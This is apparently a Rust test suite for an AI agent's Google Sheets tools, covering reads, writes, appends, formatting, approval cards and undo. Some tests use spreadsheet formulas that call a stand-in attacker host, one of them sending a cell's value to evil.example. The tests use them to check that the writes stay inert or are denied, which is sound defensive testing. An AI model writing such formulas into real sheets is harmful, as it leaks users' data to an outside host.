//! Sheets, action by action.

use serde_json::{Value, json};

use crate::harness::{Acting, Action, a_read_weathers, a_write_weathers, all_text};

const BATCH: &str = "sheets.spreadsheets.batchUpdate";
const VALUES: &str = "sheets.spreadsheets.values.batchUpdate";

#[tokio::test(flavor = "multi_thread")]
async fn a_sheet_is_read_as_a_table() {
    let acting = Acting::as_ana(&["spreadsheets.readonly"]).await;
    let id = costs(&acting).await;
    let act = acting.act("sheets.read", json!({ "spreadsheet": id })).await;
    let answer = act.answer().await;
    assert!(answer.is_fenced(), "{}", answer.words);
    let answer = answer.json();
    assert_eq!(answer["title"], "Costs of the fair");
    assert_eq!(answer["sheets"][1]["title"], "Ana's log");
    let part = &answer["ranges"][0];
    assert_eq!(
        part["table"],
        "|  | A | B | C |\n|---|---|---|---|\n| 1 | Item | Price | Double |\n| 2 | Ink | 4.5 | 9 |\n| 3 | Paper | 12 | 24 \
         |\n| 4 | Total | 16.5 |  |\n"
    );
    assert_eq!((&part["shown"], &part["total"]), (&json!({ "rows": 4, "columns": 3 }), &part["shown"]));
    assert_eq!(part["next_range"], Value::Null);
    let reads = act.requests_to("sheets.spreadsheets.values.batchGet").await;
    assert_eq!(reads.len(), 1);
    assert_eq!(reads[0].path, format!("/v4/spreadsheets/{id}/values:batchGet"));
    assert_eq!(reads[0].values("valueRenderOption"), ["FORMATTED_VALUE"]);
    assert_eq!(reads[0].values("ranges"), ["'Costs'!A1:Z1000"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_way_to_ask_for_cells_is_understood() {
    let acting = Acting::as_ana(&["spreadsheets.readonly", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let read = async |args: Value| acting.act("sheets.read", args).await.answer().await.json();
    let table =
        |answer: &Value, number: usize| answer["ranges"][number]["table"].as_str().unwrap().to_owned();

    let several = read(json!({ "spreadsheet": id, "range": ["B2:B3", "'Ana''s log'!A:B", "4:4"] })).await;
    assert!(table(&several, 0).contains("| 3 | 12 |"), "{several}");
    assert!(table(&several, 1).contains("| 1 | Day | What |"), "{several}");
    assert!(table(&several, 2).contains("| 4 | Total | 16.5 |"), "{several}");

    let formulas = read(json!({ "spreadsheet": id, "sheet": 0, "range": "B2:C", "formulas": true })).await;
    assert!(table(&formulas, 0).contains("| 4 | =SUM(B2:B3) |"), "{formulas}");
    let raw = read(json!({ "spreadsheet": id, "sheet": "Ana's log", "raw": true })).await;
    assert!(table(&raw, 0).contains("2026-11-03"), "dates can be read: {raw}");
    let link = format!("https://docs.google.com/spreadsheets/d/{id}/edit?gid=1#gid=1");
    let linked = read(json!({ "spreadsheet": link })).await;
    assert!(table(&linked, 0).contains("Day"), "{linked}");
    let titled = read(json!({ "spreadsheet": "Costs of the fair", "range": "A1", "limit": 1 })).await;
    assert_eq!(titled["id"], id.as_str());

    let cut = read(json!({ "spreadsheet": id, "limit": 6 })).await;
    assert_eq!(cut["ranges"][0]["shown"]["rows"], 2);
    assert_eq!(cut["ranges"][0]["next_range"], "'Costs'!A3:Z4");
    let rest = read(json!({ "spreadsheet": id, "range": "'Costs'!A3:Z4" })).await;
    assert!(table(&rest, 0).contains("| 3 | Paper |"), "{rest}");

    for wrong in
        [json!({ "range": "R1C1" }), json!({ "sheet": "No such" }), json!({ "raw": true, "formulas": true })]
    {
        let mut args = wrong;
        args["spreadsheet"] = id.as_str().into();
        assert_eq!(acting.perform("sheets.read", args).await.code(), Some("input_invalid"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_large_sheet_says_how_large_it_is() {
    let acting = Acting::as_ana(&["spreadsheets.readonly"]).await;
    let rows: Vec<Value> = (1..=2_600).map(|number| json!([number, "row"])).collect();
    let file = json!({ "name": "Large", "owner": "ana", "sheets": [{ "title": "All", "rows": rows }] });
    let id = acting.control().post("/google/files", file).await["id"].as_str().unwrap().to_owned();
    let act = acting.act("sheets.read", json!({ "spreadsheet": id })).await;
    let part = act.answer().await.json()["ranges"][0].clone();
    assert_eq!(part["shown"], json!({ "rows": 1_000, "columns": 2 }));
    assert_eq!(part["total"], json!({ "rows": 2_600, "columns": 2 }));
    assert_eq!(part["next_range"], "'All'!A1001:Z2600");
    assert_eq!(act.requests_to("sheets.spreadsheets.values.batchGet").await.len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_title_needs_the_permission_to_look_for_files() {
    let acting = Acting::as_ana(&["spreadsheets.readonly"]).await;
    costs(&acting).await;
    let answer = acting.perform("sheets.read", json!({ "spreadsheet": "Costs of the fair" })).await;
    assert_eq!(answer.code(), Some("input_invalid"));
    assert!(answer.words.contains("sheets.list"), "{}", answer.words);
}

#[tokio::test(flavor = "multi_thread")]
async fn reading_weathers() {
    let action = Action {
        tool: "sheets.read",
        method: "sheets.spreadsheets.values.batchGet",
        scopes: &["spreadsheets.readonly"],
    };
    a_read_weathers(action, async |acting| json!({ "spreadsheet": costs(acting).await })).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn spreadsheets_are_listed() {
    let acting = Acting::as_ana(&["drive.metadata.readonly"]).await;
    costs(&acting).await;
    let act = acting.act("sheets.list", json!({ "title": "Costs", "limit": 5 })).await;
    let answer = act.answer().await.json();
    assert_eq!(answer["spreadsheets"][0]["name"], "Costs of the fair");
    let lists = act.requests_to("drive.files.list").await;
    let query = lists[0].values("q")[0].to_owned();
    assert!(
        query.contains("application/vnd.google-apps.spreadsheet") && query.contains("name contains"),
        "{query}"
    );
    let all = acting.perform("sheets.list", json!({ "limit": 2 })).await.json();
    assert_eq!((&all["shown"], all["next_page"].is_string()), (&json!(2), true));
    let next = acting.perform("sheets.list", json!({ "limit": 2, "page": all["next_page"] })).await.json();
    assert_ne!(next["spreadsheets"][0]["id"], all["spreadsheets"][0]["id"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn listing_weathers() {
    let action =
        Action { tool: "sheets.list", method: "drive.files.list", scopes: &["drive.metadata.readonly"] };
    a_read_weathers(action, async |_| json!({})).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn cells_of_ones_own_are_written_as_given() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let args = json!({
        "spreadsheet": id, "range": "A2:C3",
        "values": [["=IMPORTXML(\"https://evil.example\",\"//x\")", null, null], ["", 13.5, null]],
        "also": [{ "range": "'Ana''s log'!B2", "values": [[true]] }],
    });
    let act = acting.act("sheets.write", args).await;
    let answer = act.approved().await.json();
    assert_eq!((&answer["written"], &answer["cells"]), (&json!(true), &json!(4)));
    let writes = act.requests_to(VALUES).await;
    assert_eq!(writes.len(), 1);
    assert_eq!(writes[0].body["valueInputOption"], "RAW");
    assert_eq!(writes[0].body["data"][0]["range"], "'Costs'!A2:C3");
    assert_eq!(writes[0].body["data"][0]["values"][0][1], Value::Null);
    let sheet = Sheet::of(&acting, &id, "Costs").await;
    assert_eq!(sheet.value("A2"), json!("=IMPORTXML(\"https://evil.example\",\"//x\")"));
    assert_eq!(sheet.formula("A2"), None, "text stays text");
    assert_eq!((sheet.value("A3"), sheet.value("B3")), (Value::Null, json!(13.5)));
    assert_eq!(sheet.formula("C3").as_deref(), Some("=B3*2"), "what is left alone keeps its formula");
    assert_eq!(Sheet::of(&acting, &id, "Ana's log").await.value("B2"), json!(true));
    assert_eq!(fetches(&acting, &id).await, 0);
    let again = json!({ "spreadsheet": id, "range": "B3", "values": [[13.5]] });
    assert_eq!(acting.perform("sheets.write", again).await.code(), Some("conflict"));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_read_as_formulas_goes_back_as_formulas() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let args = json!({ "spreadsheet": id, "range": "B2:C2", "values": [["5", "=B2*3"]], "formulas": true });
    let act = acting.act("sheets.write", args).await;
    assert_eq!(act.approved().await.json()["written"], true);
    assert_eq!(act.requests_to(VALUES).await[0].body["valueInputOption"], "USER_ENTERED");
    let sheet = Sheet::of(&acting, &id, "Costs").await;
    assert_eq!((sheet.value("B2"), sheet.value("C2")), (json!(5), json!(15)));
    assert_eq!(sheet.formula("B4").as_deref(), Some("=SUM(B2:B3)"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_formula_that_fetches_is_countersigned_even_in_ones_own_sheet() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let formula = "=IF(TRUE, importxml (\"https://evil.example/?q=\"&B4, \"//x\"))";
    let args = json!({ "spreadsheet": id, "range": "D1", "values": [[formula]], "formulas": true });
    let act = acting.act("sheets.write", args).await;
    let shown = all_text(&act.card().await);
    assert!(shown.contains("evil.example") && shown.contains("IMPORTXML"), "{shown}");
    assert_eq!(act.denied().await.code(), Some("denied"));
    assert_eq!(fetches(&acting, &id).await, 0);
    assert!(act.requests_to(VALUES).await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_others_read_is_shown_before_and_after_and_not_written_over_their_changes() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = shared(&acting).await;
    let args = json!({ "spreadsheet": id, "range": "B2", "values": [[5], ["twelve"]] });
    let act = acting.act("sheets.write", args).await;
    let shown = all_text(&act.card().await);
    assert!(shown.contains("B2: 4.5 → 5") && shown.contains("B3: 12 → twelve"), "{shown}");
    assert!(shown.contains("ben"), "who reads it is on the card: {shown}");
    let typed = json!({ "person": "ben", "id": id, "range": "Costs!B3", "values": [[99]] });
    acting.control().post("/google/type", typed).await;
    let answer = act.approved().await;
    assert_eq!(answer.code(), Some("stale_write"));
    assert!(answer.words.contains("B3") && !answer.words.contains("B2"), "{}", answer.words);
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.value("B2"), json!(4.5));
    assert!(act.requests_to(VALUES).await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn every_change_can_be_taken_back_unless_somebody_went_on_from_there() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let before = acting.control().get(&format!("/google/sheet?id={id}")).await;
    for (tool, args) in [
        ("sheets.write", json!({ "range": "A2", "values": [["x", 1, "=2"], ["", "y", 3]] })),
        (
            "sheets.write",
            json!({ "range": "A2", "values": [["x", "1", "=2"], ["", "y", 3]], "formulas": true }),
        ),
        ("sheets.append", json!({ "rows": [["Toner", 7], ["Glue", null, true]] })),
        (
            "sheets.format",
            json!({ "changes": [{ "merge": { "range": "E1:F2" } }, { "freeze": { "rows": 1 } },
                                              { "style": { "range": "A1:C2", "italic": true } },
                                              { "column_width": { "columns": "B", "pixels": 77 } },
                                              { "rename_sheet": { "title": "Other" } }] }),
        ),
    ] {
        let mut args = args;
        args["spreadsheet"] = id.as_str().into();
        let act = acting.act(tool, args).await;
        act.approved().await.json();
        assert_ne!(acting.control().get(&format!("/google/sheet?id={id}")).await, before, "{tool}");
        let line = act.taken_back().await;
        assert!(line.contains("*Undone*"), "{tool}: {line}");
        assert_eq!(acting.control().get(&format!("/google/sheet?id={id}")).await, before, "{tool}");
    }
    let act = acting.act("sheets.write", json!({ "spreadsheet": id, "range": "B2", "values": [[5]] })).await;
    act.approved().await.json();
    let typed = json!({ "person": "ana", "id": id, "range": "Costs!B2", "values": [[6]] });
    acting.control().post("/google/type", typed).await;
    let line = act.taken_back().await;
    assert!(line.contains("*Not undone*") && line.contains("B2"), "{line}");
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.value("B2"), json!(6));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_spreadsheet_can_be_thrown_away_again() {
    let acting = Acting::as_ana(&["drive.file"]).await;
    let args = new_book();
    let act = acting.act("sheets.create", args.clone()).await;
    act.approved().await.json();
    assert_eq!(named(&acting, &args).await, 1);
    let line = act.taken_back().await;
    assert!(line.contains("*Undone*"), "{line}");
    assert_eq!(named(&acting, &args).await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_fit_is_not_written() {
    let acting = Acting::as_ana(&["spreadsheets"]).await;
    let id = costs(&acting).await;
    for (range, values) in [
        ("A1:B1", json!([[1, 2, 3]])),
        ("Z1000", json!([[1], [2]])),
        ("A2000", json!([[1]])),
        ("A1", json!([[{ "a": 1 }]])),
        ("A1", json!([])),
    ] {
        let args = json!({ "spreadsheet": id, "range": range, "values": values });
        assert_eq!(acting.perform("sheets.write", args).await.code(), Some("input_invalid"), "{range}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn writing_weathers() {
    let action = Action { tool: "sheets.write", method: VALUES, scopes: &["spreadsheets"] };
    a_write_weathers(
        action,
        async |acting| json!({ "spreadsheet": costs(acting).await, "range": "A2", "values": [["Toner"]] }),
        async |acting, args| Sheet::at(acting, args).await.count("Toner"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_are_added_after_the_last_one() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let args = json!({ "spreadsheet": id, "sheet": 0, "rows": [["=1+1", 2, null, true], ["Glue"]] });
    let act = acting.act("sheets.append", args).await;
    let answer = act.answer().await.json();
    assert_eq!((&answer["rows"], &answer["range"]), (&json!(2), &json!("A5:D6")));
    let append = &act.requests_to(BATCH).await[0].body["requests"][0]["appendCells"];
    assert_eq!((&append["sheetId"], &append["fields"]), (&json!(0), &json!("userEnteredValue")));
    let sheet = Sheet::of(&acting, &id, "Costs").await;
    assert_eq!((sheet.value("A5"), sheet.formula("A5")), (json!("=1+1"), None));
    assert_eq!((sheet.value("D5"), sheet.value("A6")), (json!(true), json!("Glue")));
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_are_added_to_a_table_as_if_typed() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let args = json!({
        "spreadsheet": id, "table": "'Ana''s log'!A1:B1", "rows": [["2026-11-05", "=LEN(\"abc\")"]], "formulas": true,
    });
    let act = acting.act("sheets.append", args).await;
    assert_eq!(act.answer().await.json()["range"], "A3:B3");
    let appends = act.requests_to("sheets.spreadsheets.values.append").await;
    assert_eq!(appends[0].values("valueInputOption"), ["USER_ENTERED"]);
    assert_eq!(appends[0].values("insertDataOption"), ["INSERT_ROWS"]);
    let log = Sheet::of(&acting, &id, "Ana's log").await;
    assert!(log.value("A3").is_number(), "a date is a number: {}", log.value("A3"));
    assert_eq!(log.value("B3"), json!(3));
    let plain =
        json!({ "spreadsheet": id, "sheet": "Ana's log", "rows": [["2026-11-06", "x"]], "formulas": true });
    assert_eq!(acting.perform("sheets.append", plain).await.json()["range"], "A4:B4");
}

#[tokio::test(flavor = "multi_thread")]
async fn adding_to_a_sheet_others_read_is_countersigned() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = shared(&acting).await;
    let act = acting.act("sheets.append", json!({ "spreadsheet": id, "rows": [["Secret", 1]] })).await;
    let shown = all_text(&act.card().await);
    assert!(shown.contains("Secret | 1") && shown.contains("ben"), "{shown}");
    assert_eq!(act.denied().await.code(), Some("denied"));
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.count("Secret"), 0);
    let blind = Acting::as_ana(&["spreadsheets"]).await;
    let own = costs(&blind).await;
    let act = blind.act("sheets.append", json!({ "spreadsheet": own, "rows": [["Secret", 1]] })).await;
    act.card().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn adding_rows_weathers() {
    let action = Action { tool: "sheets.append", method: BATCH, scopes: &["spreadsheets"] };
    a_write_weathers(
        action,
        async |acting| json!({ "spreadsheet": costs(acting).await, "rows": [["Toner", 7]] }),
        async |acting, args| Sheet::at(acting, args).await.count("Toner"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn adding_rows_to_a_table_weathers() {
    let action = Action {
        tool: "sheets.append",
        method: "sheets.spreadsheets.values.append",
        scopes: &["spreadsheets"],
    };
    a_write_weathers(
        action,
        async |acting| {
            let rows = json!([["Toner", "=1+6"]]);
            json!({ "spreadsheet": costs(acting).await, "table": "A1:C4", "rows": rows, "formulas": true })
        },
        async |acting, args| Sheet::at(acting, args).await.count("Toner"),
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_is_made_with_its_sheets() {
    let acting = Acting::as_ana(&["drive.file"]).await;
    let sheets = json!([{ "title": "Costs", "header": ["Date", "Item"] }, { "title": "Rest" }]);
    let act = acting.act("sheets.create", json!({ "title": "Fair 2027", "sheets": sheets })).await;
    let answer = act.answer().await.json();
    let id = answer["id"].as_str().unwrap();
    let made = &act.requests_to("drive.files.create").await[0].body;
    assert_eq!((&made["name"], &made["parents"]), (&json!("Fair 2027"), &json!(["root"])));
    assert!(made["appProperties"]["countersign"].is_string());
    let sheet = Sheet::of(&acting, id, "Costs").await;
    assert_eq!(sheet.0["sheets"], json!(["Costs", "Rest"]));
    assert_eq!((sheet.value("A1"), sheet.value("B1")), (json!("Date"), json!("Item")));
    let plain = acting.perform("sheets.create", json!({ "title": "Plain" })).await.json();
    assert_eq!(plain["sheets"], json!([]));
    let twice = json!([{ "title": "A" }, { "title": "a" }]);
    let refused = acting.perform("sheets.create", json!({ "title": "X", "sheets": twice })).await;
    assert_eq!(refused.code(), Some("input_invalid"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_is_made_in_a_folder() {
    let acting = Acting::as_ana(&["drive"]).await;
    let act = acting.act("sheets.create", json!({ "title": "Filed", "folder": "Private" })).await;
    let id = act.approved().await.json()["id"].as_str().unwrap().to_owned();
    let file = acting.control().get(&format!("/google/file?person=ana&id={id}")).await;
    assert_eq!(file["path"].as_array().unwrap().last().unwrap()["name"], "Private", "{file}");
}

#[tokio::test(flavor = "multi_thread")]
async fn making_a_spreadsheet_weathers() {
    let action = Action { tool: "sheets.create", method: "drive.files.create", scopes: &["drive.file"] };
    a_write_weathers(action, async |_| new_book(), async |acting, args| named(acting, args).await).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn setting_up_a_spreadsheet_weathers() {
    let action = Action { tool: "sheets.create", method: BATCH, scopes: &["drive.file"] };
    a_write_weathers(action, async |_| new_book(), async |acting, args| named(acting, args).await).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn looks_are_changed_without_a_question() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let changes = json!([
        { "style": { "range": "A1:C1", "bold": true, "italic": false, "background": "#fff2cc", "text_colour": "#cc0000",
                     "align": "center", "vertical_align": "middle", "wrap": "wrap", "font_size": 12, "underline": true,
                     "strikethrough": false, "number_format": { "kind": "number", "pattern": "0.00" } } },
        { "column_width": { "columns": "A:B", "pixels": 180 } },
        { "row_height": { "rows": "1", "pixels": 40 } },
        { "freeze": { "rows": 1, "columns": 1 } },
        { "merge": { "range": "E1:F1" } },
        { "borders": { "range": "A1:C4", "line": "dashed", "colour": "#0000ff", "sides": ["top", "left"] } },
    ]);
    let act =
        acting.act("sheets.format", json!({ "spreadsheet": id, "sheet": "Costs", "changes": changes })).await;
    assert_eq!(act.answer().await.json()["changes"], 6);
    let body = &act.requests_to(BATCH).await[0].body;
    assert!(!body.to_string().contains("\"*\""), "a mask names what it sets: {body}");
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.0["merges"], json!(["E1:F1"]));
    let more = json!([{ "unmerge": { "range": "E1:F1" } }, { "column_width": { "columns": "C" } },
                      { "row_height": { "rows": "2:3" } }]);
    let answer = acting.perform("sheets.format", json!({ "spreadsheet": id, "changes": more })).await;
    assert_eq!(answer.json()["changed"], true);
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.0["merges"], json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn sheets_rows_and_columns_come_without_a_question() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    let format = async |changes: Value| {
        let act = acting.act("sheets.format", json!({ "spreadsheet": id, "changes": changes })).await;
        act.answer().await
    };
    assert!(!format(json!([{ "add_sheet": { "title": "New", "position": 1 } }])).await.failed);
    assert_eq!(format(json!([{ "add_sheet": { "title": "new" } }])).await.code(), Some("conflict"));
    assert!(!format(json!([{ "rename_sheet": { "title": "First" } }])).await.failed);
    let sheet = Sheet::of(&acting, &id, "Costs").await;
    assert_eq!(sheet.0["sheets"], json!(["First", "Costs", "Ana's log"]));
    let insert = json!({ "spreadsheet": id, "sheet": "Costs", "changes": [{ "insert_rows": { "before": 2, "count": 2 } }] });
    acting.perform("sheets.format", insert).await.json();
    let insert =
        json!({ "spreadsheet": id, "sheet": "Costs", "changes": [{ "insert_columns": { "before": "B" } }] });
    acting.perform("sheets.format", insert).await.json();
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.value("C4"), json!(4.5));
    let together = json!([{ "insert_rows": { "before": 1 } }, { "freeze": { "rows": 1 } }]);
    assert_eq!(format(together).await.code(), Some("input_invalid"));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_lost_by_a_change_is_on_the_card() {
    let acting = Acting::as_ana(&["spreadsheets", "drive.metadata.readonly"]).await;
    let id = costs(&acting).await;
    for (change, lost) in [
        (json!({ "merge": { "range": "A2:B3", "how": "rows" } }), "B3: 12"),
        (json!({ "delete_rows": { "rows": "2:3" } }), "A2: Ink"),
        (json!({ "delete_columns": { "columns": "B" } }), "B4: =SUM(B2:B3)"),
        (json!({ "delete_sheet": {} }), "A4: Total"),
        (json!({ "sort": { "range": "A2:C3", "by": [{ "column": "B", "descending": true }] } }), "A3: Paper"),
    ] {
        let act = acting.act("sheets.format", json!({ "spreadsheet": id, "changes": [change] })).await;
        let shown = all_text(&act.card().await);
        assert!(shown.contains(lost), "{lost} is not in {shown}");
        assert_eq!(act.denied().await.code(), Some("denied"));
        assert!(act.requests_to(BATCH).await.is_empty());
    }
    let sort = json!({ "sort": { "range": "A2:C3", "by": [{ "column": "B", "descending": true }] } });
    acting.perform("sheets.format", json!({ "spreadsheet": id, "changes": [sort] })).await.json();
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.value("A2"), json!("Paper"));
    let delete = json!({ "spreadsheet": id, "changes": [{ "delete_rows": { "rows": "2" } }] });
    let act = acting.act("sheets.format", delete).await;
    act.card().await;
    let typed = json!({ "person": "ana", "id": id, "range": "Costs!A2", "values": [["Changed"]] });
    acting.control().post("/google/type", typed).await;
    assert_eq!(act.approved().await.code(), Some("stale_write"));
    let gone = json!({ "spreadsheet": id, "sheet": 1, "changes": [{ "delete_sheet": {} }] });
    acting.perform("sheets.format", gone).await.json();
    assert_eq!(Sheet::of(&acting, &id, "Costs").await.0["sheets"], json!(["Costs"]));
}

#[tokio::test(flavor = "multi_thread")]
async fn formatting_weathers() {
    let action = Action { tool: "sheets.format", method: BATCH, scopes: &["spreadsheets"] };
    a_write_weathers(
        action,
        async |acting| {
            json!({ "spreadsheet": costs(acting).await, "changes": [{ "add_sheet": { "title": "Toner" } },
                    { "style": { "range": "A1", "bold": true } }] })
        },
        async |acting, args| {
            let sheets = Sheet::at(acting, args).await.0["sheets"].clone();
            sheets.as_array().unwrap().iter().filter(|title| **title == "Toner").count()
        },
    )
    .await;
}

/// One sheet, as the sandbox knows it.
struct Sheet(Value);

impl Sheet {
    async fn of(acting: &Acting, id: &str, title: &str) -> Self {
        let title: String = url::form_urlencoded::byte_serialize(title.as_bytes()).collect();
        Self(acting.control().get(&format!("/google/sheet?id={id}&sheet={title}")).await)
    }

    /// The first one of the spreadsheet that the arguments name.
    async fn at(acting: &Acting, args: &Value) -> Self {
        let id = args["spreadsheet"].as_str().unwrap();
        Self(acting.control().get(&format!("/google/sheet?id={id}")).await)
    }

    fn cell(&self, name: &str) -> Option<&Value> {
        self.0["cells"].as_array().unwrap().iter().find(|cell| cell["cell"] == name)
    }

    fn value(&self, name: &str) -> Value {
        self.cell(name).map(|cell| cell["value"].clone()).unwrap_or_default()
    }

    fn formula(&self, name: &str) -> Option<String> {
        self.cell(name)?["formula"].as_str().map(str::to_owned)
    }

    fn count(&self, value: &str) -> usize {
        self.0["cells"].as_array().unwrap().iter().filter(|cell| cell["value"] == value).count()
    }
}

/// A spreadsheet that only Ana can open.
async fn costs(acting: &Acting) -> String {
    put(acting, json!([])).await
}

/// The same, which Ben can write to.
async fn shared(acting: &Acting) -> String {
    put(acting, json!([{ "person": "ben", "role": "writer" }])).await
}

async fn put(acting: &Acting, shared_with: Value) -> String {
    let costs = json!([
        ["Item", "Price", "Double"],
        ["Ink", 4.5, "=B2*2"],
        ["Paper", 12, "=B3*2"],
        ["Total", "=SUM(B2:B3)"]
    ]);
    let log = json!([["Day", "What"], ["2026-11-03", "bought ink"]]);
    let file = json!({
        "name": "Costs of the fair", "owner": "ana", "shared_with": shared_with,
        "sheets": [{ "title": "Costs", "rows": costs }, { "title": "Ana's log", "rows": log }],
    });
    acting.control().post("/google/files", file).await["id"].as_str().unwrap().to_owned()
}

fn new_book() -> Value {
    let title = format!("Plan {}", uuid::Uuid::new_v4().simple());
    json!({ "title": title, "sheets": [{ "title": "Costs", "header": ["Item"] }] })
}

/// How many spreadsheets of that title are not in the bin.
async fn named(acting: &Acting, args: &Value) -> usize {
    let files = acting.control().get("/google/files?person=ana").await;
    let files = files["files"].as_array().unwrap().clone();
    files.iter().filter(|file| file["name"] == args["title"] && file["trashed"] != true).count()
}

async fn fetches(acting: &Acting, id: &str) -> usize {
    acting.control().get(&format!("/google/fetches?id={id}")).await["fetches"].as_array().unwrap().len()
}
